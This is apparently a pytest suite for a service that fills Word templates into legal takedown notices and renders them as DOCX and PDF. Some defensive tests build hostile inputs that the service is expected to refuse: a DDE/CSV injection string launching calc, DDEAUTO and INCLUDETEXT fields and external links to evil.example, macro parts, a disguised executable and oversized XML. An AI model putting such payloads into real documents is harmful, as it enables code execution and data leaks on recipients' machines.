"""Papers made of the standard templates and of ones that somebody edited: what they hold, and what they refuse."""

import io
import zipfile
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from typing import Any

import docx
import pytest
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from pypdf import PdfReader

from core.addressees import Paper
from core.errors import BadInput
from documents.word_reading import read_word_file
from tests.support.refusals import refused
from webadmin.notices.services.legal_fields import FIELDS
from webadmin.notices.services.standard_templates import standard_template
from webadmin.notices.services.word_template import (
    RenderedPaper,
    Values,
    empty_recommended_fields,
    empty_required_fields,
    fill_template,
    missing_fields,
    render_paper,
    template_faults,
)

AT = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)
HOSTILE = "=cmd|' /C calc'!A0 {{权利人名称}} <w:fldSimple w:instr=\"DDE\"/> #eval(1) \u202e反转"


def values(**others: str | Sequence[dict[str, str]]) -> Values:
    """Every field has something in it."""
    given: dict[str, Any] = {
        field.code: [
            dict.fromkeys(field.columns, f"{field.name}之一"),
            dict.fromkeys(field.columns, f"{field.name}之二"),
        ]
        if field.columns
        else f"某{field.name}"
        for field in FIELDS
    }
    return {**given, **others}


def text_of(word: bytes) -> str:
    return "\n".join(str(node.text) for node in docx.Document(io.BytesIO(word)).element.body.iter(qn("w:t")))


def printed(files: RenderedPaper) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(files.pdf)).pages).replace("\n", "")


def edited(kind: Paper, change: Callable[[Any], None]) -> bytes:
    """A standard template that somebody changed in Word."""
    file, kept = docx.Document(io.BytesIO(standard_template(kind))), io.BytesIO()
    change(file)
    file.save(kept)
    return kept.getvalue()


def said(kind: Paper, template: bytes) -> list[str]:
    return [fault.in_language("en") for fault in template_faults(template, kind)]


@pytest.mark.parametrize("kind", Paper)
@pytest.mark.usefixtures("processes")
def test_the_standard_templates_have_all_that_the_law_asks_for(kind: Paper) -> None:
    assert said(kind, standard_template(kind)) == []
    files = render_paper(kind, standard_template(kind), values(), AT)
    for field in FIELDS:
        if kind in field.needed:
            shown = "之二" if field.columns else f"某{field.name}"
            assert shown in text_of(files.word), field.name
    assert "{{" not in text_of(files.word)
    assert files.pdf.startswith(b"%PDF")


@pytest.mark.parametrize("kind", Paper)
def test_no_paper_is_finished_while_a_field_of_the_law_is_empty(kind: Paper) -> None:
    needed = [field for field in FIELDS if kind in field.needed]
    assert needed
    for field in needed:
        for empty in ([], [dict.fromkeys(field.columns, " ")]) if field.columns else ("", " \n"):
            assert empty_required_fields(kind, values(**{field.code: empty})) == [field]
    for lacking in (needed[:1], needed):
        empty = {field.code: [] if field.columns else "" for field in lacking}
        with pytest.raises(BadInput) as refused:
            render_paper(kind, standard_template(kind), values(**empty), AT)
        assert all(field.name in refused.value.message.in_language("zh") for field in lacking)


@pytest.mark.usefixtures("processes")
def test_what_only_the_recommended_form_asks_for_is_pointed_out_and_holds_nothing_up() -> None:
    given = values(holder_postcode="", site_ip="")
    assert [field.code for field in empty_recommended_fields(Paper.ARTICLE_14, given)] == ["site_ip", "holder_postcode"]
    assert render_paper(Paper.ARTICLE_14, standard_template(Paper.ARTICLE_14), given, AT).pdf


def test_what_is_empty_leaves_no_hole() -> None:
    """Rows and lines of what a letter can do without go; anything else that is empty is named before it is finished."""
    empty = dict.fromkeys(("site_record", "agent_name", "agent_contact", "contact_person", "addressee_address"), "")
    word = docx.Document(io.BytesIO(fill_template(standard_template(Paper.LETTER), values(**empty))))
    labels = [row.cells[0].text for table in word.tables for row in table.rows]
    assert not {"备案号", "联系人", "代理人"} & set(labels)
    assert {"域名", "电话"} <= set(labels)
    assert not any(each.text.startswith("地址") for each in word.paragraphs)
    assert missing_fields(Paper.LETTER, standard_template(Paper.LETTER), values(**empty)) == []
    lacks = values(**empty, legal_basis="", answer_days=" ", ownership="")
    codes = [field.code for field in missing_fields(Paper.LETTER, standard_template(Paper.LETTER), lacks)]
    assert codes == ["ownership", "legal_basis", "answer_days"]
    own = edited(Paper.LETTER, lambda file: file.add_paragraph("（备案号：{{网站备案号}}）"))
    assert [field.code for field in missing_fields(Paper.LETTER, own, values(**empty))] == ["site_record"]
    refused("fields are still empty: ICP record of the site", render_paper, Paper.LETTER, own, values(**empty), AT)


@pytest.mark.usefixtures("processes")
def test_a_row_is_written_for_each_address_and_word_and_pdf_say_the_same() -> None:
    rows = [
        {"number": str(number), "url": f"https://pirate.example/book/{number}.html", "work": "《渡口无灯》"}
        for number in range(1, 60)
    ]
    files = render_paper(Paper.ARTICLE_14, standard_template(Paper.ARTICLE_14), values(addresses=rows), AT)
    word, pdf = text_of(files.word), printed(files)
    for row in rows:
        assert row["url"] in word
        assert row["url"] in pdf
    assert len(PdfReader(io.BytesIO(files.pdf)).pages) > 2


def test_a_field_that_is_alone_becomes_a_paragraph_for_each_line() -> None:
    word = fill_template(standard_template(Paper.ARTICLE_14), values(demands="一、立即删除；\n二、书面回复。"))
    lines = [paragraph.text for paragraph in docx.Document(io.BytesIO(word)).paragraphs]
    assert lines[lines.index("一、立即删除；") + 1] == "二、书面回复。"


def test_a_field_that_word_cut_into_pieces_is_filled_in_the_look_of_its_beginning() -> None:
    def cut(file: Any) -> None:
        paragraph = file.add_paragraph()
        for piece, is_bold in (("致{", False), ("{权利", True), ("人名称}", False), ("} 台鉴", False)):
            paragraph.add_run(piece).bold = is_bold

    word = fill_template(edited(Paper.LETTER, cut), values(holder_name="长河\n文学"))
    last = docx.Document(io.BytesIO(word)).paragraphs[-1]
    assert last.text == "致长河\n文学 台鉴"


@pytest.mark.usefixtures("processes")
def test_what_a_page_says_is_text_and_nothing_else() -> None:
    rows = [dict.fromkeys(("number", "url", "title", "work", "chapters"), HOSTILE)]
    files = render_paper(Paper.LETTER, standard_template(Paper.LETTER), values(addresses=rows, facts=HOSTILE), AT)
    body = docx.Document(io.BytesIO(files.word)).element.body
    assert "<w:fldSimple w:instr=" in text_of(files.word)
    assert "{{权利人名称}}" in text_of(files.word), "a value is not filled again"
    assert "‹RLO›" in text_of(files.word)
    assert "\u202e" not in text_of(files.word)
    for tag in ("w:fldSimple", "w:instrText", "w:hyperlink", "w:object"):
        assert next(body.iter(qn(tag)), None) is None
    with zipfile.ZipFile(io.BytesIO(files.word)) as archive:
        assert not any(b'TargetMode="External"' in archive.read(name) for name in archive.namelist())
    assert "#eval(1)" in printed(files)
    assert not any("/Annots" in page for page in PdfReader(io.BytesIO(files.pdf)).pages), "no link is live"


def test_no_value_is_filled_again_wherever_it_stands() -> None:
    """A page's title may read like a field: the identity number of the rights holder is not put into it."""

    def in_a_plain_row(file: Any) -> None:
        file.add_table(rows=1, cols=1).cell(0, 0).text = "{{侵权事实}}"
        file.add_table(rows=1, cols=1).cell(0, 0).text = "{{网址.网页标题}}，{{网站名称}}"

    given = ("{{权利人身份证明}}", "{{网址.地址}}", "{{作品.名称}}{{权利人身份证明}}")
    hostile = [dict.fromkeys(("number", "url", "title", "work", "chapters"), each) for each in given]
    word = fill_template(
        edited(Paper.LETTER, in_a_plain_row),
        values(holder_identity="91330106", addresses=hostile, facts="{{网址.地址}}{{权利人身份证明}}"),
    )
    text = text_of(word)
    assert "91330106" not in text
    assert all(each in text for each in given)
    assert "{{网址.地址}}{{权利人身份证明}}" in text
    assert "{{作品.名称}}{{权利人身份证明}}，某网站名称" in text, "a row has fields of its list and others"


@pytest.mark.usefixtures("processes")
def test_a_letterhead_a_merged_cell_and_bold_words_come_out_in_the_pdf() -> None:
    def dress(file: Any) -> None:
        file.sections[0].header.paragraphs[0].text = "长河文学法务部专用函"
        table = file.add_table(rows=1, cols=3)
        table.cell(0, 0).merge(table.cell(0, 1)).text = "合并的一格"

    template = edited(Paper.LETTER, dress)
    files = render_paper(Paper.LETTER, template, values(), AT)
    assert "长河文学法务部专用函" in printed(files)
    read = read_word_file(files.word, "函")
    assert read.blocks[-1].rows[0][0].span == 2  # type: ignore[union-attr]
    assert "合并的一格" in printed(files)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{权利人名字}}", "did you mean {{权利人名称}}?"),
        ("{{ 天气 }}", "there is no field {{天气}}"),
        ("{{网址.地址}}", "must be in the row of a table"),
        ("{{网址}}", "with one of these columns: 序号"),
        ("{{网址.颜色}}", "with one of these columns"),
        ("{{日期.年}}", "a field that is not a list has none"),
    ],
)
def test_a_field_that_is_none_is_named(text: str, words: str) -> None:
    (fault,) = said(Paper.LETTER, edited(Paper.LETTER, lambda file: file.add_paragraph(text)))
    assert words in fault


def test_two_lists_in_a_row_and_a_missing_field_are_named_with_the_law() -> None:
    def mix(file: Any) -> None:
        file.add_table(rows=1, cols=1).cell(0, 0).text = "{{网址.地址}} {{作品.名称}}"
        for paragraph in file.paragraphs:
            if "{{保证声明}}" in paragraph.text:
                paragraph._p.getparent().remove(paragraph._p)

    def nest(file: Any) -> None:
        cell = file.add_table(rows=1, cols=1).cell(0, 0)
        cell.text = "{{网址.地址}}"
        cell.add_table(rows=1, cols=1).cell(0, 0).text = "{{作品.名称}}"

    assert "fields from more than one list: addresses, works" in said(Paper.LETTER, edited(Paper.LETTER, nest))[0]
    mixed, lacks = said(Paper.ARTICLE_14, edited(Paper.ARTICLE_14, mix))
    assert "fields from more than one list: addresses, works" in mixed
    assert "lacks {{保证声明}}" in lacks
    assert "article 14" in lacks


def _instruction(file: Any) -> None:
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), 'INCLUDETEXT "http://evil.example/x"')
    file.paragraphs[0]._p.append(field)


def _field(*instructions: str) -> Callable[[Any], None]:
    """A field of Word in the pieces that it is cut into; "{" begins one within it, "}" ends that one, "|" the order."""

    def add(file: Any) -> None:
        for piece in ("{", *instructions, "}"):
            run, kind = OxmlElement("w:r"), {"{": "begin", "}": "end", "|": "separate"}.get(piece)
            made = OxmlElement("w:fldChar" if kind else "w:instrText")
            if kind:
                made.set(qn("w:fldCharType"), kind)
            else:
                made.text = piece
            run.append(made)
            file.paragraphs[0]._p.append(run)

    return add


def _bare_instruction(file: Any) -> None:
    made = OxmlElement("w:instrText")
    made.text = 'DDEAUTO c:\\windows "x"'
    file.paragraphs[0]._p.append(made)


def _vml(file: Any) -> None:
    picture = parse_xml(
        '<w:pict xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="http://evil.example/p.png"/></v:shape></w:pict>'
    )
    file.paragraphs[0]._p.append(picture)


def _tracked(file: Any) -> None:
    file.paragraphs[0]._p.append(OxmlElement("w:ins"))


def _linked(file: Any) -> None:
    file.part.relate_to("http://evil.example/t.dotm", "http://example/attachedTemplate", is_external=True)


_TEXT = "<w:r><w:t>{}</w:t></w:r>"
_ROW = f"<w:tr><w:tc><w:p>{_TEXT.format('{{网址.地址}}')}</w:p></w:tc></w:tr>"


@pytest.mark.parametrize(
    "xml",
    [
        f"<w:p>{_TEXT.format('{{' + ' ' * 200_000)}</w:p>",
        f"<w:p>{_TEXT.format('{{ {{' + ' ' * 90)}</w:p>" * 5_000,
        f"<w:p>{_TEXT.format('{{甲乙}}') * 600}</w:p>",
        f"<w:p>{'<w:r/>' * 20_000}</w:p>",
        f"<w:tbl>{'<w:tr><w:tc><w:tbl>' * 30}{_ROW}{'</w:tbl></w:tc></w:tr>' * 30}</w:tbl>",
        f"<w:tbl>{_ROW * 300}</w:tbl>",
        "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 60,
    ],
)
def test_what_would_take_minutes_to_judge_or_to_fill_is_no_template(xml: str) -> None:
    """With tables in tables, a file of 97 kB took two minutes to judge."""

    def change(file: Any) -> None:
        file.element.body[:0] = parse_xml(f"<w:body {nsdecls('w')}>{xml}</w:body>")

    with pytest.raises(BadInput, match="has more content than a template can have"):
        template_faults(edited(Paper.ARTICLE_14, change), Paper.ARTICLE_14)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_instruction, "has an active Word field, INCLUDETEXT"),
        (_field("DDE", "AUTO c:\\\\windows"), "active Word field, DDEAUTO"),
        (_field("PAGE", "|", "}", "{", "DDEAUTO x"), "active Word field, DDEAUTO"),
        (_field("PAGE ", "{", "INCLUDEPICTURE x", "}"), "has an active Word field, INCLUDEPICTURE"),
        (_field("PAGE", "|", "IMPORT x"), "has an active Word field, IMPORT"),
        (_field("PAGE DDEAUTO x"), "has an active Word field, PAGE"),
        (_bare_instruction, "active Word field, DDEAUTO"),
        (_vml, "links to external content, “http://evil.example/p.png”"),
        (_tracked, "tracked changes"),
        (_linked, "links to external content, “http://evil.example/t.dotm”"),
    ],
)
def test_a_template_that_acts_by_itself_is_refused(change: Callable[[Any], None], words: str) -> None:
    refused(words, template_faults, edited(Paper.LETTER, change), Paper.LETTER)


def _rewritten(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A standard template whose parts somebody changed without Word."""
    with zipfile.ZipFile(io.BytesIO(standard_template(Paper.LETTER))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _elsewhere(parts: dict[str, bytes]) -> None:
    """The part that Word opens stands outside of `word/`, where a harmless one is left."""
    active = parts["word/document.xml"].replace(b"<w:body>", b'<w:body><w:p><w:fldSimple w:instr="DDE x y"/></w:p>')
    parts["other/main.xml"] = active
    parts["other/_rels/main.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(b'Target="', b'Target="/word/')
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"other/main.xml")
    _retyped(parts, b"/word/document.xml", b"/other/main.xml")


def _retyped(parts: dict[str, bytes], old: bytes, new: bytes) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(old, new)


def _with_macros(parts: dict[str, bytes]) -> None:
    """A DOCM whose list of types has the plain type too, for a part that is not the main one."""
    _retyped(
        parts,
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/>',
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.'
        b'main+xml"/>'
        b'<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/>',
    )


def _unnamed(parts: dict[str, bytes]) -> None:
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"/officeDocument", b"/nothing")


def _dressed_up(parts: dict[str, bytes]) -> None:
    """A program under the name of a picture, of a type that is none."""
    parts["word/media/image1.xyz"] = b"MZ"
    _retyped(parts, b"</Types>", b'<Default Extension="xyz" ContentType="application/x-msdownload"/></Types>')


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_elsewhere, "active Word field, DDE"),
        (_with_macros, "macros"),
        (_unnamed, "not a readable Word file"),
        (_dressed_up, "macros"),
        (
            lambda parts: parts.update({"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
            "not a readable Word",
        ),
    ],
)
def test_every_part_is_judged_wherever_it_stands(change: Callable[[dict[str, bytes]], None], words: str) -> None:
    refused(words, template_faults, _rewritten(change), Paper.LETTER)


def with_part(name: str, content: bytes) -> bytes:
    made = io.BytesIO(standard_template(Paper.LETTER))
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "not a readable Word file"),
        (b"PK\x03\x04broken", "not a readable Word file"),
        (b"\xd0\xcf\x11\xe0 an old .doc", "not a readable Word file"),
        (with_part("word/vbaProject.bin", b"x"), "macros"),
        (with_part("word/embeddings/a.xlsx", b"x"), "macros"),
        (with_part("word/extra.xml", b"<a"), "not a readable Word file"),
        (with_part("word/media/big.png", b"\0" * (41 * 1024 * 1024)), "larger than 4 MB, or has more"),
        (b"PK\x03\x04" + b"\0" * (4 * 1024 * 1024), "larger than 4 MB"),
    ],
    ids=["empty", "broken", "old", "macros", "embedded", "xml", "unpacks", "large"],
)
def test_a_file_that_is_no_plain_word_document_is_refused(content: bytes, words: str) -> None:
    refused(words, template_faults, content, Paper.LETTER)
